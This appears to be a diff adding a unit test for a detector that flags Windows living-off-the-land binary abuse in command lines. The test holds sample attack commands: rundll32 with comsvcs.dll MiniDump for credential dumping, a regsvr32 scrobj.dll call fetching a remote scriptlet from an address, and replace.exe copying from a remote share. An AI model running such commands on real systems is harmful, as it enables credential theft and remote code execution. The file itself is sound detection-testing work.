@@ -136,6 +136,47 @@ test('mounted content names the entry that says so, in our form and in that of t
   expect(mountedLolbas(literalContent([{ name: 'lolbas', version: 'v1', data: 'nonsense' }]))).toBeUndefined();
 });
 
+test('a program of the table runs where a command begins, its marks are whole words, and the evidence is the text itself', () => {
+  const commands = (...recorded: [string, string][]) => recorded.map(([command, attack]) => ({ command, attack }));
+  const data = [
+    { name: 'Replace.exe', commands: commands(['replace.exe {PATH:.cab} {PATH_ABSOLUTE:folder} /A', 'T1105']) },
+    {
+      name: 'Comsvcs.dll',
+      commands: commands(
+        ['rundll32 C:\\windows\\System32\\comsvcs.dll MiniDump {PID} full', 'T1003.001'],
+        ['comsvcs.dll, MiniDump', 'T1003.001'],
+      ),
+    },
+    { name: 'Scrobj.dll', commands: commands(['regsvr32 /s /u /i:{REMOTEURL} scrobj.dll', 'T1218.010']) },
+  ];
+  const lolbas = mountedLolbas(literalContent([{ name: 'lolbas', version: 'v1', data }]))!;
+  const told = (text: string) => lolbas.signsOf(text).map((sign) => [sign.rule.slice(7), sign.text]);
+  for (const innocent of [
+    'sed -i s/replace/a/ /etc/app.conf',
+    'rem replace /a with /s in manual',
+    'replace.exe s/a/b/ x',
+    'replace.exe --all x',
+    'sed -i s/comsvcs.dll, MiniDump/x/ notes',
+    'search-replace.py /a',
+    'git commit -m "we replace /a by /b"',
+  ])
+    expect([innocent, told(innocent)]).toEqual([innocent, []]);
+  for (const [command, cited] of [
+    ['Replace.exe C:\\a.cab C:\\out /A', 'Replace.exe C:\\a.cab C:\\out /A'],
+    ['"C:\\Windows\\System32\\replace.exe" x /a y', 'replace.exe" x /a'],
+    ['cmd.exe /c replace \\\\srv\\x.exe C:\\out /A', 'replace \\\\srv\\x.exe C:\\out /A'],
+    ['dir & start /b %windir%\\system32\\replace.exe x y /A', 'replace.exe x y /A'],
+    ['schtasks /create /tr "replace x y /a"', 'replace x y /a'],
+  ] as const)
+    expect(told(command)).toEqual([['Replace.exe', cited]]);
+  expect(told('rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 x full')).toEqual([
+    ['Comsvcs.dll', 'comsvcs.dll, MiniDump'],
+  ]);
+  expect(told('regsvr32 /s/u/i:http://203.0.113.9/a scrobj.dll')).toEqual([
+    ['Scrobj.dll', '/s/u/i:http://203.0.113.9/a scrobj.dll'],
+  ]);
+});
+
 test('a table that was added and is not used is told from one that nobody mounted', () => {
   const hash = 'a'.repeat(64);
   const told = (content: Content) =>
